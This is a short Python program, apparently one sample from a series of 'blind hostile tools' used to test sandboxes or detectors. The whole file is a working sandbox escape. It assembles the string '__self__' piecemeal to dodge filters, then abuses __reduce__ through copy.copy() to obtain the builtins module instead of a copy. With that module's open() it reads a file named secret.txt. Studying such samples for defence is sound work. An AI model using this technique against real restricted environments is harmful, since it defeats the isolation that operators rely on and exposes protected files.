# family: reduce (written blind, round 17 of blind hostile tools)
"""Snapshotting state with copy."""
import copy

_ATTR = "_" * 2 + "self" + "_" * 2


class Snapshot:
    def __reduce__(self):
        return (getattr, (len, _ATTR))


def snapshot():
    return copy.copy(Snapshot())


mod = snapshot()
print(mod.open("/tmp/r17b/work/secret.txt").read())
